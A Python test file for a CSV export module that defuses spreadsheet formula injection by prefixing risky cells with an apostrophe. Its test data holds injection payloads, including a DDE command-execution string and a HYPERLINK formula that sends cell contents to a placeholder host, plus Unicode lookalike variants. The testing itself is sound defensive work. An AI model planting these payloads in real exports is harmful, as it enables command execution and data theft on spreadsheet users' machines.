"""CSV that no spreadsheet computes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from storage.alerts import Severity
from web.exports.csv_text import BYTE_ORDER_MARK, CELL_CHARS, csv_bytes, csv_cell

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\rtext",
    "\ntext",
    " =1",
    '"=1',
    "'=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\ufeff=1",
    "\u200b=1",
    "\x01=1",
    "−1",
    "“=1",
    '=HYPERLINK("https://market.example/?x="&A1,"price")',
    "=cmd|'/C calc'!A0",
)
PLAIN = (
    "",
    "出售趣店学生数据",
    "1,000,000 rows - fresh",
    "a@b.example",
    "2+2",
    "price = 5",
    "it's new",
    'he said "yes"',
    "one, two",
    "1-2",
    "C++ developers",
    "a;b",
    "line\nline",
)


@pytest.mark.parametrize("number", range(len(FORMULAS)))
def test_a_text_that_would_be_computed_begins_with_an_apostrophe(number: int) -> None:
    assert csv_cell(FORMULAS[number])[0] == "'"


@pytest.mark.parametrize("number", range(len(PLAIN)))
def test_ordinary_text_stays_as_it_is(number: int) -> None:
    assert csv_cell(PLAIN[number]) == PLAIN[number]


def test_no_formula_begins_inside_of_a_cell() -> None:
    """Where another sign separates cells, the rest of a cell becomes a cell of its own."""
    for text in ("b;=1+1", "b\t=1+1", "b\n=1+1", 'b"=1+1', "b; ＝1+1", "b|@x"):
        (line,) = csv_bytes(["name"], [[text]], byte_order_mark=False)
        for separator in (";", "\t", "|"):
            for row in csv.reader(io.StringIO(line.decode()), delimiter=separator):
                assert not any(cell.strip(' "\t\n')[:1] in tuple("=+-@＝") for cell in row if cell)


def test_values_have_one_form_each() -> None:
    at = datetime(2026, 3, 13, 4, 5, 6, 7, tzinfo=UTC)
    row = [None, True, -5, 0.25, Decimal("1E+3"), at, Severity.HIGH, "a\0b\ud800"]

    assert [csv_cell(each) for each in row] == [
        *("", "true", "-5", "0.25", "1000", "2026-03-13T04:05:06+00:00", "high", "ab?"),
    ]
    assert len(csv_cell("x" * 40_000)) == CELL_CHARS


def test_a_reader_gets_back_quotes_commas_and_line_breaks() -> None:
    rows = [[f"row {number}", 'a "b", c', "x\r\ny"] for number in range(450)]

    pieces = list(csv_bytes(["one", "two", "three"], iter(rows)))

    assert pieces[0] == BYTE_ORDER_MARK
    assert len(pieces) == 4
    read = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))
    assert read == [["one", "two", "three"], *rows]
